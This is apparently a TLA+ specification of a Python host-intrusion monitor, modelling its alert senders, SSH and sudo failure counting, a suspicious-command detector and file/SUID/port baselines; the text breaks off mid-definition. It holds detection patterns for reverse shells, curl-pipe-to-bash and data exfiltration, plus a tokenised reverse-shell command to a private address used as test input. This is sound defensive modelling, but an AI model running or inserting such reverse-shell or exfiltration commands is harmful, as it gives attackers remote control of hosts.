---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the SAMS monitoring engine (src/sams/sams.py), its alerters    *)
(* (src/sams/alerters) and the baseline-keeping detectors                  *)
(* (src/sams/detectors).                                                   *)
(*                                                                         *)
(*   Spec        the engine: main(), SAMS.__init__, run(), test_alert(),   *)
(*               _process_event() and the signal handler                   *)
(*   FairSpec    Spec plus weak fairness of the engine's own steps         *)
(*   SpecAlerter one alerter instance: constructor and send_alert          *)
(*   SpecDet     one baseline detector: constructor and detect() cycles    *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(* ---------------------------- bounds ----------------------------------- *)
\* most webhook entries read from alerting.webhooks
MaxWebhooks == 2
\* most events one detect() call returns
MaxEvents == 1
\* longest check_interval, in sleep ticks
MaxInterval == 1
\* most send_alert calls made on one alerter instance
MaxSends == 2
\* number of files that can carry the SUID or SGID bit
MaxPaths == 2
\* number of distinct content hashes
MaxHash == 2
MaxLines == 3
MaxThreshold == 2
MaxCycles == 2

\* most lines of the journal when commands are looked for
MaxCmdLines == 2

\* pieces in a string value of a template
MaxTplLen == 2

\* most entries of one kind in a window of the kernel log
MaxAttempts == 51

\* the time of the last cycle
MaxClock == 3

\* count > 50: the number of attempts a port scan has to exceed
ScanThreshold == 50

VARIABLES
    pc,          \* position of the main thread
    exitCode,    \* process exit status, -1 while the process lives
    running,     \* SAMS.running
    handlers,    \* TRUE once signal.signal() registered _signal_handler
    detectors,   \* SAMS.detectors: sequence of detector names
    alerters,    \* SAMS.alerters: sequence of alerter instances
    detCfg,      \* per detector class: what initialization did with it
    whOutcome,   \* per webhook entry read so far: what initialization did
    webhooks,    \* per webhook entry read so far: enabled flag, credential
    di,          \* index of the for-loop over detector classes / detectors
    got,         \* number of events the current detect() returned
    done,        \* number of those events already passed through _process_event
    ai,          \* index of the for-loop over self.alerters
    sendResults, \* outcomes of send_alert for the event being processed
    interval,    \* check_interval read by run()
    sleepLeft,   \* remaining ticks of time.sleep
    invoked,     \* detectors whose detect() was called in this pass
    lastOutcome, \* outcome of the most recent detect() call
    failedPrev,  \* a detect() call raised in the previous pass
    failedNow,   \* a detect() call raised in this pass
    evFailed,    \* some earlier event had a failed delivery
    sigSeen,     \* a signal was handled by _signal_handler
    testMode,    \* --test-alert was given
    event,       \* the SecurityEvent in the hands of _process_event
    sigAt,       \* detectors already invoked when a signal came during a pass, else -1
    cfgFailed,   \* the configuration file was missing or did not parse
    alt,         \* SpecAlerter: the alerter instance
    altCfg,      \* SpecAlerter: the configuration it was constructed from
    lastSend,    \* SpecAlerter: what the latest send_alert call did
    sends,       \* SpecAlerter: number of send_alert calls so far
    netCalls,    \* SpecAlerter: number of HTTP requests made so far
    body_template, \* WebhookAlerter.body_template when it is a mapping
    payload,     \* the event and the payload of the latest rendering
    det,         \* SpecDet: the detector class that is constructed
    detConf,     \* SpecDet: the options of the detector (expected_ports)
    fsSuid,      \* files with the SUID bit
    fsSgid,      \* files with the SGID bit
    listening,   \* listening TCP ports
    fsFiles,     \* per tracked file: Absent, Unreadable or its content hash
    hashFile,    \* the durable hash file: its state and the mapping in it
    known_suid_files,  \* PrivilegeEscalationDetector.known_suid_files
    known_listeners,   \* NetworkAnomalyDetector.known_listeners
    file_hashes, \* FileChangeDetector.file_hashes, NoEntry for a missing key
    lastState,   \* the files and sockets as they were at the latest cycle
    dEvents,     \* baseline events the latest cycle returned
    observed,    \* the inventory or listing the latest cycle obtained
    added,       \* the latest cycle added members to the baseline
    prevAdded,   \* the cycle before the latest added members to the baseline
    sameState,   \* nothing changed between the latest cycle and the one before
    delivery,    \* the alerts of the latest cycle: none, pending, sent, failed
    prevFailed,  \* every alert of the cycle before the latest failed
    logDet,      \* SpecLog: the detector that scans the journal
    threshold,   \* AuthFailureDetector.threshold
    journal,     \* the lines journalctl prints for the queried window
    scans,       \* the journal queries of the latest detect() that succeeded
    logEvents,   \* the events the latest scan returned, in order
    cmdEvents,   \* the events of the latest SuspiciousCommandDetector.detect()
    now,         \* datetime.now(), in units of the timeframe
    last_check,  \* AuthFailureDetector.last_check
    checkedAt,   \* the times at which AuthFailureDetector.detect() was called
    callIdx,     \* SpecCalls: position in the invocations of the cycle
    callState,   \* the invocation in progress: none, running or hung
    callFailed,  \* invocations of this cycle that ended at their timeout
    cycles       \* cycles completed

engineVars == <<pc, exitCode, running, handlers, detectors, alerters, detCfg,
                whOutcome, webhooks, di, got, done, ai, sendResults, interval, sleepLeft,
                invoked, lastOutcome, failedPrev, failedNow, evFailed,
                sigSeen, testMode, sigAt, cfgFailed, event>>

alerterVars == <<alt, altCfg, lastSend, sends, netCalls, body_template,
                 payload>>

detVars == <<det, detConf, fsSuid, fsSgid, listening, fsFiles, hashFile,
             known_suid_files, known_listeners, file_hashes, lastState, dEvents,
             observed, added, prevAdded, sameState, delivery, prevFailed>>

clockVars == <<now, last_check, checkedAt>>

logVars == <<logDet, threshold, journal, scans, logEvents, cmdEvents,
             clockVars>>

callVars == <<callIdx, callState, callFailed, cycles>>

auxVars == <<logVars, callVars>>

vars == <<engineVars, alerterVars, detVars, auxVars>>

(* ------------------------ alerter constructors -------------------------- *)
AlerterTypes == {"webhook", "slack", "mattermost", "telegram"}

\* values "type" may take in a webhook entry: the four known ones and another
TypeValues == AlerterTypes \cup {"other"}

\* values of "method": a string, or "null" for a value that is not a string
MethodValues == {"POST", "PUT", "GET", "null"}

\* values of "body_template": absent, a mapping, or a truthy non-mapping
TemplateValues == {"none", "dict", "bad"}

\* one entry of alerting.webhooks; url, bot_token, chat_id: TRUE when present
WebhookConfigs ==
    [type : TypeValues, enabled : BOOLEAN, url : BOOLEAN, bot_token : BOOLEAN,
     chat_id : BOOLEAN, method : MethodValues, template : TemplateValues]

\* alerter_types.get(webhook_type, WebhookAlerter)
AlerterClass(type) == IF type \in AlerterTypes THEN type ELSE "webhook"

\* BaseAlerter.__init__: enabled = config.get("enabled", True)
BaseAlerterInit(cfg) == cfg.enabled

\* the constructor of a class raises: only WebhookAlerter's can, on
\* config.get("method", "POST").upper() with a method that is not a string
CtorRaises(class, cfg) == class = "webhook" /\ cfg.method = "null"

\* the required credential of a class is present in the configuration
HasCredential(class, cfg) ==
    IF class = "telegram" THEN cfg.bot_token /\ cfg.chat_id ELSE cfg.url

\* the instance a constructor builds (when it does not raise)
AlerterNew(class, cfg) ==
    [class    |-> class,
     enabled  |-> BaseAlerterInit(cfg) /\ HasCredential(class, cfg),
     method   |-> IF class = "webhook" THEN cfg.method ELSE "POST",
     template |-> IF class = "webhook" THEN cfg.template ELSE "none"]

\* BaseAlerter.is_enabled
is_enabled(alerter) == alerter.enabled

(* ------------------------------ send_alert ------------------------------ *)
\* HTTP status codes an endpoint answers with
StatusCodes == {200, 204, 304, 404, 500}

\* what requests.post / requests.put can do: raise for a connection error or
\* a timeout, or return a response with a status code
NetOutcomes ==
    {[kind |-> k, status |-> 0] : k \in {"conn_error", "timeout"}}
        \cup {[kind |-> "response", status |-> c] : c \in StatusCodes}

\* the event dictionaries send_alert is given: sevOk, the severity is a
\* string; tsOk, the date part of the timestamp is digits and dashes
EventInputs == [sevOk : BOOLEAN, tsOk : BOOLEAN]

\* no template was given
NoTemplate == [text |-> [str |-> TRUE, text |-> <<>>],
               meta |-> [str |-> FALSE, text |-> <<>>]]

\* nothing was rendered yet
NoPayload == [event |-> <<>>, result |-> <<>>]

\* no call was made yet
NoSend == [result |-> "none", attempted |-> FALSE,
           net |-> [kind |-> "none", status |-> 0]]

\* send_alert returned r without making a request
NoRequest(r) == [result |-> r, attempted |-> FALSE,
                 net |-> [kind |-> "none", status |-> 0]]

\* Response.raise_for_status raises for the 4xx and 5xx codes only
raise_for_status(status) == status >= 400 /\ status < 600

\* the except branch of send_alert: the error is printed to stderr and False
\* is returned; a print that fails (stderr closed) raises out of send_alert
Caught(attempted, net, errOk) ==
    [result    |-> IF errOk THEN "false" ELSE "raise",
     attempted |-> attempted,
     net       |-> net]

\* the request and "response.raise_for_status(); return True" inside the try
Deliver(net, errOk) ==
    IF net.kind = "response" /\ ~raise_for_status(net.status)
    THEN [result |-> "true", attempted |-> TRUE, net |-> net]
    ELSE Caught(TRUE, net, errOk)

\* WebhookAlerter._apply_template raises on a template that has no items()
WebhookRenderRaises(a, ev) == a.template = "bad"

\* SlackAlerter._format_slack_message raises on severity.upper() of a
\* non-string and on int() of a date that is not digits
SlackRenderRaises(a, ev) == ~ev.sevOk \/ ~ev.tsOk

\* TelegramAlerter._format_telegram_message raises on severity.upper()
TelegramRenderRaises(a, ev) == ~ev.sevOk

\* WebhookAlerter.send_alert
WebhookSend(a, ev, net, errOk) ==
    IF ~is_enabled(a) THEN NoRequest("false")
    ELSE IF WebhookRenderRaises(a, ev) THEN Caught(FALSE, NoSend.net, errOk)
    ELSE IF a.method \notin {"POST", "PUT"} THEN NoRequest("false")
    ELSE Deliver(net, errOk)

\* SlackAlerter.send_alert, inherited by MattermostAlerter
SlackSend(a, ev, net, errOk) ==
    IF ~is_enabled(a) THEN NoRequest("false")
    ELSE IF SlackRenderRaises(a, ev) THEN Caught(FALSE, NoSend.net, errOk)
    ELSE Deliver(net, errOk)

\* TelegramAlerter.send_alert without the is_enabled test
TelegramSend_noGuard(a, ev, net, errOk) ==
    IF TelegramRenderRaises(a, ev) THEN Caught(FALSE, NoSend.net, errOk)
    ELSE Deliver(net, errOk)

\* TelegramAlerter.send_alert
TelegramSend(a, ev, net, errOk) ==
    IF ~is_enabled(a) THEN NoRequest("false")
    ELSE IF TelegramRenderRaises(a, ev) THEN Caught(FALSE, NoSend.net, errOk)
    ELSE Deliver(net, errOk)

(* ------------------------------ journal lines --------------------------- *)
\* A line is a sequence of tokens: words, punctuation marks and SP, one
\* whitespace character.
SP == " "

Hours == {"07", "08"}

Users == {"alice", "bob"}

Addresses == {"10.0.0.1", "10.0.0.2"}

\* the tokens that \w+ matches as a whole
WordTokens ==
    {"Nov", "06", "59", "02", "host", "sshd", "sudo", "bash", "1", "22", "3",
     "Failed", "Accepted", "password", "for", "invalid", "user", "from",
     "port", "ssh2", "incorrect", "attempts", "authentication", "failure",
     "pam_unix", "auth", "rhost", "COMMAND", "BASH", "ls"}
        \cup Hours \cup Users

\* the tokens that \d+\.\d+\.\d+\.\d+ matches as a whole
IsAddress(t) == t \in Addresses

IsWord(t) == t \in WordTokens

\* str.lower() of a token
Lower(t) ==
    CASE t = "Nov" -> "nov"
      [] t = "Failed" -> "failed"
      [] t = "Accepted" -> "accepted"
      [] t = "COMMAND" -> "command"
      [] t = "BASH" -> "bash"
      [] t = "EXECVE" -> "execve"
      [] OTHER -> t

LowerLine(line) == [i \in DOMAIN line |-> Lower(line[i])]

\* the head journalctl prints before the message of an entry, in its default
\* output format: "Nov 06 07:59:02 host tag[1]: "
Timestamp(hh) == <<"Nov", SP, "06", SP, hh, ":", "59", ":", "02">>

Prefix(hh, tag) ==
    Timestamp(hh) \o <<SP, "host", SP, tag, "[", "1", "]", ":", SP>>

TagAt == 13

\* sshd: "Failed password for [invalid user ]U from A port 22 ssh2"
FailedPassword(hh, invalid, user, addr) ==
    Prefix(hh, "sshd") \o <<"Failed", SP, "password", SP, "for", SP>>
        \o (IF invalid THEN <<"invalid", SP, "user", SP>> ELSE <<>>)
        \o <<user, SP, "from", SP, addr, SP, "port", SP, "22", SP, "ssh2">>

\* sshd: "pam_unix(sshd:auth): authentication failure; rhost=A user=U"
PamFailure(hh, user, addr) ==
    Prefix(hh, "sshd")
        \o <<"pam_unix", "(", "sshd", ":", "auth", ")", ":", SP,
             "authentication", SP, "failure", ";", SP, "rhost", "=", addr,
             SP, "user", "=", user>>

\* sshd: "Accepted password for U from A port 22 ssh2"
AcceptedPassword(hh, user, addr) ==
    Prefix(hh, "sshd")
        \o <<"Accepted", SP, "password", SP, "for", SP, user, SP, "from", SP,
             addr, SP, "port", SP, "22", SP, "ssh2">>

\* sudo: "  U : 3 incorrect password attempts ; COMMAND=ls"
IncorrectPassword(hh, user) ==
    Prefix(hh, "sudo")
        \o <<SP, SP, user, SP, ":", SP, "3", SP, "incorrect", SP, "password",
             SP, "attempts", SP, ";", SP, "COMMAND", "=", "ls">>

\* the entries the journal of the authentication services can hold
AuthLines ==
    {FailedPassword("07", FALSE, u, a) : u \in Users, a \in Addresses}
        \cup {FailedPassword("07", TRUE, "bob", "10.0.0.1"),
              PamFailure("07", "alice", "10.0.0.1"),
              AcceptedPassword("07", "alice", "10.0.0.1")}
        \cup {IncorrectPassword(hh, u) : hh \in Hours, u \in Users}

\* needle in line: the tokens of needle occur in line one after the other
Contains(line, needle) ==
    \E i \in 1 .. (Len(line) - Len(needle) + 1) :
        SubSeq(line, i, i + Len(needle) - 1) = needle

\* the token at position i, "" past the end
At(line, i) == IF i \in DOMAIN line THEN line[i] ELSE ""

\* \s*: the first position from i on that holds no whitespace
SkipSp(line, i) ==
    CHOOSE j \in i .. (Len(line) + 1) :
        /\ \A k \in i .. (j - 1) : line[k] = SP
        /\ At(line, j) # SP

\* the least element of a set of positions
Least(S) == CHOOSE i \in S : \A k \in S : i <= k

\* journalctl -u / -t: the entries of one service
EntriesOf(lines, tag) == SelectSeq(lines, LAMBDA l : At(l, TagAt) = tag)

(* --------------------------- AuthFailureDetector ------------------------ *)
\* "Failed password" in line or "authentication failure" in line
IsSshFailure(line) ==
    \/ Contains(line, <<"Failed", SP, "password">>)
    \/ Contains(line, <<"authentication", SP, "failure">>)

\* re.search(r'from\s+(\d+\.\d+\.\d+\.\d+)', line): the positions of a match
IpMatches(line) ==
    {i \in DOMAIN line :
        /\ line[i] = "from"
        /\ At(line, i + 1) = SP
        /\ IsAddress(At(line, SkipSp(line, i + 1)))}

\* ip_match.group(1) if ip_match else "unknown"
ip_match(line) ==
    IF IpMatches(line) = {} THEN "unknown"
    ELSE At(line, SkipSp(line, Least(IpMatches(line)) + 1))

\* "invalid\s+user\s+" followed by a word, from position j: the position of
\* the word, 0 when this branch does not match
InvalidUserAt(line, j) ==
    IF At(line, j) = "invalid" /\ At(line, j + 1) = SP
    THEN LET k == SkipSp(line, j + 1) IN
            IF /\ At(line, k) = "user"
               /\ At(line, k + 1) = SP
               /\ IsWord(At(line, SkipSp(line, k + 1)))
            THEN SkipSp(line, k + 1) ELSE 0
    ELSE 0

\* re.search(r'for\s+(?:invalid\s+user\s+)?(\w+)', line): positions of a match
UserMatches(line) ==
    {i \in DOMAIN line :
        /\ line[i] = "for"
        /\ At(line, i + 1) = SP
        /\ \/ InvalidUserAt(line, SkipSp(line, i + 1)) # 0
           \/ IsWord(At(line, SkipSp(line, i + 1)))}

\* user_match.group(1) if user_match else "unknown"
user_match(line) ==
    IF UserMatches(line) = {} THEN "unknown"
    ELSE LET j == SkipSp(line, Least(UserMatches(line)) + 1) IN
            IF InvalidUserAt(line, j) # 0 THEN line[InvalidUserAt(line, j)]
            ELSE line[j]

\* "authentication failure" in line.lower() or "incorrect password" in
\* line.lower()
IsSudoFailure(line) ==
    \/ Contains(LowerLine(line), <<"authentication", SP, "failure">>)
    \/ Contains(LowerLine(line), <<"incorrect", SP, "password">>)

\* re.search(r'(\w+)\s*:', line): the positions of a match
SudoUserMatches(line) ==
    {i \in DOMAIN line :
        IsWord(line[i]) /\ At(line, SkipSp(line, i + 1)) = ":"}

\* user_match.group(1) if user_match else "unknown"
sudo_user_match(line) ==
    IF SudoUserMatches(line) = {} THEN "unknown"
    ELSE line[Least(SudoUserMatches(line))]

\* the keys of a defaultdict in the order they were first inserted
RECURSIVE Dedup(_)
Dedup(keys) ==
    IF keys = <<>> THEN <<>>
    ELSE LET head == Dedup(SubSeq(keys, 1, Len(keys) - 1))
             last == keys[Len(keys)]
         IN  IF \E i \in DOMAIN head : head[i] = last THEN head
             ELSE Append(head, last)

\* len(failure_lines) of one key
CountOf(keys, key) == Cardinality({i \in DOMAIN keys : keys[i] = key})

\* the auth_failure event of one group
AuthEvent(service, severity, source_ip, username, count, limit) ==
    [event_type |-> "auth_failure", service |-> service,
     severity |-> severity, source_ip |-> source_ip, username |-> username,
     failure_count |-> count, threshold |-> limit]

\* if len(failure_lines) >= self.threshold
MeetsThreshold(count, limit) == count >= limit

\* AuthFailureDetector._check_ssh_failures on the output of journalctl -u ssh;
\* a non-zero return code or an exception gives no event
_check_ssh_failures(lines, limit, ok) ==
    IF ~ok THEN <<>>
    ELSE LET failures == SelectSeq(lines, IsSshFailure)
             keys == [i \in DOMAIN failures |->
                         <<ip_match(failures[i]), user_match(failures[i])>>]
             hit == SelectSeq(Dedup(keys),
                       LAMBDA g : MeetsThreshold(CountOf(keys, g), limit))
         IN  [i \in DOMAIN hit |->
                 AuthEvent("ssh", "high", hit[i][1], hit[i][2],
                           CountOf(keys, hit[i]), limit)]

\* AuthFailureDetector._check_sudo_failures on the output of journalctl -t sudo
_check_sudo_failures(lines, limit, ok) ==
    IF ~ok THEN <<>>
    ELSE LET failures == SelectSeq(lines, IsSudoFailure)
             keys == [i \in DOMAIN failures |-> sudo_user_match(failures[i])]
             hit == SelectSeq(Dedup(keys),
                       LAMBDA g : MeetsThreshold(CountOf(keys, g), limit))
         IN  [i \in DOMAIN hit |->
                 AuthEvent("sudo", "medium", "", hit[i],
                           CountOf(keys, hit[i]), limit)]

(* ------------------------ SuspiciousCommandDetector --------------------- *)
\* The elements of a pattern, on tokens: lit, one token equal to t; in, one
\* token of s; sp1, \s+; sp0, \s*; any, .*  The tokens of the lines below are
\* cut so that a literal of a pattern is a whole token or occurs in none.
Lit(t) == [k |-> "lit", t |-> t, s |-> {}]

OneOf(s) == [k |-> "in", t |-> "", s |-> s]

Sp1 == [k |-> "sp1", t |-> "", s |-> {}]

Sp0 == [k |-> "sp0", t |-> "", s |-> {}]

AnyText == [k |-> "any", t |-> "", s |-> {}]

\* -[tanp] at the start of an option
OptTanp == {"-t", "-a", "-n", "-p", "-tanp", "-tulpn"}

\* -[el]+ at the start of an option
OptEl == {"-e", "-l", "-el", "-le", "-lvp"}

\* SuspiciousCommandDetector.SUSPICIOUS_PATTERNS, in the order of the list
SUSPICIOUS_PATTERNS ==
    << [re |-> <<Lit("bash"), Sp1, Lit("-i"), Sp1, Lit(">&"), Sp1,
                 Lit("/dev/tcp/")>>,
        threat_type |-> "reverse_shell", severity |-> "critical"],
       [re |-> <<Lit("nc"), Sp1, OneOf(OptEl), AnyText, Sp1,
                 OneOf({"/bin/sh", "/bin/bash"})>>,
        threat_type |-> "reverse_shell", severity |-> "critical"],
       [re |-> <<Lit("python"), AnyText, Lit("socket"), AnyText, Lit("subprocess")>>,
        threat_type |-> "reverse_shell", severity |-> "critical"],
       [re |-> <<Lit("perl"), AnyText, Lit("socket"), AnyText, Lit("exec")>>,
        threat_type |-> "reverse_shell", severity |-> "critical"],
       [re |-> <<Lit("/dev/tcp/"), AnyText, Lit("bash")>>,
        threat_type |-> "reverse_shell", severity |-> "critical"],
       [re |-> <<Lit("nmap"), Sp1>>,
        threat_type |-> "network_scan", severity |-> "high"],
       [re |-> <<Lit("masscan"), Sp1>>,
        threat_type |-> "network_scan", severity |-> "high"],
       [re |-> <<Lit("netstat"), AnyText, OneOf(OptTanp)>>,
        threat_type |-> "network_recon", severity |-> "medium"],
       [re |-> <<Lit("ss"), Sp1, OneOf(OptTanp)>>,
        threat_type |-> "network_recon", severity |-> "medium"],
       [re |-> <<Lit("curl"), AnyText, OneOf({"http://", "https://"}), AnyText,
                 Lit("|"), Sp0, Lit("bash")>>,
        threat_type |-> "remote_execution", severity |-> "critical"],
       [re |-> <<Lit("wget"), AnyText, OneOf({"http://", "https://"}), AnyText,
                 Lit("|"), Sp0, Lit("bash")>>,
        threat_type |-> "remote_execution", severity |-> "critical"],
       [re |-> <<Lit("curl"), AnyText, Lit("-x"), Sp1, Lit("post"), AnyText,
                 Lit("--data")>>,
        threat_type |-> "data_exfiltration", severity |-> "high"],
       [re |-> <<Lit("scp"), Sp1, AnyText, Lit("@"), AnyText, Lit(":")>>,
        threat_type |-> "data_exfiltration", severity |-> "high"],
       [re |-> <<Lit("rsync"), AnyText, Lit("@"), AnyText, Lit(":")>>,
        threat_type |-> "data_exfiltration", severity |-> "high"],
       [re |-> <<Lit("curl"), AnyText, Lit("-t"), Sp1>>,
        threat_type |-> "data_exfiltration", severity |-> "high"],
       [re |-> <<Lit("wget"), AnyText, Lit("--post-file")>>,
        threat_type |-> "data_exfiltration", severity |-> "high"] >>

\* the pattern from element pi on matches the line, given in lower case for
\* re.IGNORECASE, from position li on
RECURSIVE MatchFrom(_, _, _, _)
MatchFrom(pat, pi, line, li) ==
    IF pi > Len(pat) THEN TRUE
    ELSE LET e == pat[pi]
             here == li \in DOMAIN line
         IN CASE e.k = "lit" ->
                   /\ here
                   /\ line[li] = e.t
                   /\ MatchFrom(pat, pi + 1, line, li + 1)
              [] e.k = "in" ->
                   /\ here
                   /\ line[li] \in e.s
                   /\ MatchFrom(pat, pi + 1, line, li + 1)
              [] e.k = "sp1" ->
                   /\ here
                   /\ line[li] = SP
                   /\ \/ MatchFrom(pat, pi, line, li + 1)
                      \/ MatchFrom(pat, pi + 1, line, li + 1)
              [] e.k = "sp0" ->
                   \/ MatchFrom(pat, pi + 1, line, li)
                   \/ here /\ line[li] = SP /\ MatchFrom(pat, pi, line, li + 1)
              [] OTHER ->
                   \/ MatchFrom(pat, pi + 1, line, li)
                   \/ here /\ MatchFrom(pat, pi, line, li + 1)

\* re.match in the place of re.search: the pattern has to match at the start
\* of the line
re_search_anchored(pat, line) == MatchFrom(pat, 1, LowerLine(line), 1)

\* re.search(pattern, line, re.IGNORECASE): a match at some position
re_search(pat, line) ==
    LET low == LowerLine(line)
    IN \E li \in 1 .. (Len(line) + 1) : MatchFrom(pat, 1, low, li)

\* the tokens kept by line[:500]
LogEntryMax == 500

\* line[:500]
Truncate(line) ==
    SubSeq(line, 1, IF Len(line) < LogEntryMax THEN Len(line) ELSE LogEntryMax)

\* re.search(r'cmd=(.+)', line): what follows the first cmd= up to the end of
\* the line, "unknown" when there is no cmd= with something after it
CommandOf(line) ==
    LET at == {i \in 1 .. (Len(line) - 2) :
                  line[i] = "cmd" /\ line[i + 1] = "="}
    IN IF at = {} THEN <<"unknown">>
       ELSE SubSeq(line, Least(at) + 2, Len(line))

\* the event _check_journalctl appends for a line and a pattern; a key that
\* the details do not hold is the empty sequence
JournalEvent(line, p) ==
    [event_type |-> "suspicious_command", severity |-> p.severity,
     threat_type |-> p.threat_type, log_entry |-> Truncate(line),
     command |-> <<>>, pattern_matched |-> p.re]

\* the event _check_auditd_logs appends for a line and a pattern
AuditEvent(line, p) ==
    [event_type |-> "suspicious_command", severity |-> p.severity,
     threat_type |-> p.threat_type, log_entry |-> <<>>,
     command |-> CommandOf(line), pattern_matched |-> p.re]

\* the inner loop: one event for every pattern that matches the line
RECURSIVE ScanLine(_, _, _)
ScanLine(line, pi, auditd) ==
    IF pi > Len(SUSPICIOUS_PATTERNS) THEN <<>>
    ELSE (IF re_search(SUSPICIOUS_PATTERNS[pi].re, line)
          THEN <<IF auditd THEN AuditEvent(line, SUSPICIOUS_PATTERNS[pi])
                           ELSE JournalEvent(line, SUSPICIOUS_PATTERNS[pi])>>
          ELSE <<>>)
            \o ScanLine(line, pi + 1, auditd)

\* the outer loop over result.stdout.split('\n')
RECURSIVE ScanLines(_, _, _)
ScanLines(lines, i, auditd) ==
    IF i > Len(lines) THEN <<>>
    ELSE ScanLine(lines[i], 1, auditd) \o ScanLines(lines, i + 1, auditd)

\* SuspiciousCommandDetector._check_bash_history returns no event
_check_bash_history == <<>>

\* SuspiciousCommandDetector._check_auditd_logs on the output of ausearch; a
\* missing ausearch or a non-zero return code gives no event
_check_auditd_logs(lines, ok) == IF ok THEN ScanLines(lines, 1, TRUE) ELSE <<>>

\* _check_journalctl keeping one event of every kind only
_check_journalctl_dedup(lines, ok) ==
    IF ok THEN Dedup(ScanLines(lines, 1, FALSE)) ELSE <<>>

\* SuspiciousCommandDetector._check_journalctl on the output of journalctl
_check_journalctl(lines, ok) == IF ok THEN ScanLines(lines, 1, FALSE) ELSE <<>>

\* the command line the reverse shell example is about
ReverseShellText ==
    <<"bash", SP, "-i", SP, ">&", SP, "/dev/tcp/", "10.0.0.1", "/", "4444">>

\* a journal entry that holds the example, with something before and after
ReverseShellLine(tag, before, after) ==
    Prefix("07", tag) \o before \o ReverseShellText \o after

\* the entries the journal can hold when commands are looked for
CommandLines ==
    {ReverseShellLine("sudo", <<"COMMAND", "=">>, <<>>),
     ReverseShellLine("sudo", <<>>, <<SP, ";", SP, "bash">>)}
        \cup {Prefix("07", "bash")
                 \o <<"BASH", SP, SP, "-i", SP, ">&", SP, "/dev/tcp/",
                      "10.0.0.2", "/", "4444">>,
              Prefix("07", "bash")
                 \o <<"bash", SP, "-i", SP, ">&", SP, "/dev/udp/",
                      "10.0.0.1", "/", "4444">>,
              Prefix("07", "sudo") \o <<"COMMAND", "=", "nmap", SP, "10.0.0.1">>,
              Prefix("07", "sudo") \o <<"COMMAND", "=", "ls">>}

\* the lines ausearch can print
AuditLines ==
    {<<"type", "=", "EXECVE", SP, "cmd", "=", "nmap", SP, "10.0.0.1">>,
     <<"type", "=", "EXECVE", SP, "a0", "=">> \o ReverseShellText}

(* --------------------------- baseline detectors ------------------------- *)
\* the detector classes that keep a baseline across cycles
BaselineDetectors == {"privilege_escalation", "network_anomalies", "file_changes"}

\* candidate SUID/SGID files
Paths == 1 .. MaxPaths

\* ports a socket can listen on
PortValues == {22, 4444, 8080}

\* NetworkAnomalyDetector: the default of expected_ports
EXPECTED_PORTS == {22, 80, 443}

\* values of the expected_ports option: the default, and a longer list
ExpectedChoices == {EXPECTED_PORTS, EXPECTED_PORTS \cup {8080}}

\* FileChangeDetector.CRITICAL_FILES (the head of the list)
CRITICAL_FILES == {"/etc/passwd"}

\* files found by the glob over FileChangeDetector.CRITICAL_DIRS
DirFiles == {"/etc/cron.d/job"}

TrackedFiles == CRITICAL_FILES \cup DirFiles

\* a file that does not exist
Absent == -1

\* the result "" of _get_file_hash for a file that cannot be read
Unreadable == 0

\* file_hashes.get(path) is None
NoEntry == -1

Hashes == 1 .. MaxHash

\* states of one tracked file
FileStates == {Absent, Unreadable} \cup Hashes

\* file_hashes without any key
NoHashes == [f \in TrackedFiles |-> NoEntry]

\* PrivilegeEscalationDetector._get_suid_files: the two find runs; an
\* exception (a timeout) keeps what was collected before it
ScanOutcomes == {"ok", "fail_suid", "fail_sgid"}

_get_suid_files(scan, suid, sgid) ==
    IF scan = "ok" THEN suid \cup sgid
    ELSE IF scan = "fail_sgid" THEN suid
    ELSE {}

\* NetworkAnomalyDetector._get_listening_ports: the ports parsed from the
\* output of ss, none when running ss raised
_get_listening_ports(ssOk, ports) == IF ssOk THEN ports ELSE {}

\* FileChangeDetector._load_hashes: {} when the file is missing or unparsable
_load_hashes(hf) == IF hf.state = "ok" THEN hf.map ELSE NoHashes

\* FileChangeDetector._save_hashes: the file is rewritten; an exception is
\* swallowed, before the file was opened or after it was truncated
SaveOutcomes == {"ok", "not_opened", "truncated"}

_save_hashes(outcome, hf, hashes) ==
    IF outcome = "ok" THEN [state |-> "ok", map |-> hashes]
    ELSE IF outcome = "truncated" THEN [state |-> "corrupt", map |-> NoHashes]
    ELSE hf

\* a baseline event; the fields a kind does not use keep their defaults, the
\* severity is the one its constructor call is given
Event(kind, paths, port, file, prev, cur) ==
    [kind |-> kind, paths |-> paths, port |-> port, file |-> file,
     prev |-> prev, cur |-> cur,
     severity |-> IF kind \in {"suid_change", "critical_modified"}
                  THEN "critical" ELSE "high"]

\* PrivilegeEscalationDetector._check_suid_changes: events and new baseline
SuidNew(current, known) == current \ known

\* _check_suid_changes appending one event for every new path
SuidEvents_perPath(current, known) ==
    {Event("suid_change", {p}, 0, "", 0, 0) : p \in SuidNew(current, known)}

SuidEvents(current, known) ==
    IF SuidNew(current, known) # {}
    THEN {Event("suid_change", SuidNew(current, known), 0, "", 0, 0)}
    ELSE {}

\* self.known_suid_files = current_suid moved out of "if new_files"
SuidBaseline_always(current, known) == current

\* _check_suid_changes leaving known_suid_files as it was
SuidBaseline_keep(current, known) == known

\* self.known_suid_files = current_suid, inside "if new_files"
SuidBaseline(current, known) ==
    IF SuidNew(current, known) # {} THEN current ELSE known

\* NetworkAnomalyDetector._check_listening_ports: events and new baseline
ListenerEvents(current, known, expected) ==
    {Event("new_listener", {}, port, "", 0, 0) :
        port \in {q \in current \ known : q \notin expected}}

\* known_listeners only ever growing
ListenerBaseline_union(current, known) == known \cup current

\* self.known_listeners = current_ports, after the loop
ListenerBaseline(current, known) == current

\* the loop over CRITICAL_FILES reporting a file the first time it is seen
CriticalEvents_firstSeen(files, hashes) ==
    {Event("critical_modified", {}, 0, f, hashes[f], files[f]) :
        f \in {g \in CRITICAL_FILES :
                  /\ files[g] \notin {Absent, Unreadable}
                  /\ hashes[g] # files[g]}}

\* FileChangeDetector._check_file_hashes, loop over CRITICAL_FILES: a file
\* that is missing or unreadable is skipped
CriticalEvents(files, hashes) ==
    {Event("critical_modified", {}, 0, f, hashes[f], files[f]) :
        f \in {g \in CRITICAL_FILES :
                  /\ files[g] \notin {Absent, Unreadable}
                  /\ hashes[g] # NoEntry
                  /\ hashes[g] # files[g]}}

\* the loop over the directories storing an unseen file without an event
DirEvents_silentFirst(files, hashes) ==
    {Event("dir_modified", {}, 0, f, hashes[f], files[f]) :
        f \in {g \in DirFiles : /\ files[g] # Absent
                                /\ hashes[g] # NoEntry
                                /\ hashes[g] # files[g]}}

\* FileChangeDetector._check_file_hashes, loop over the directories: every
\* file the glob finds is hashed, an unreadable one as ""
DirEvents(files, hashes) ==
    {Event("new_file", {}, 0, f, NoEntry, files[f]) :
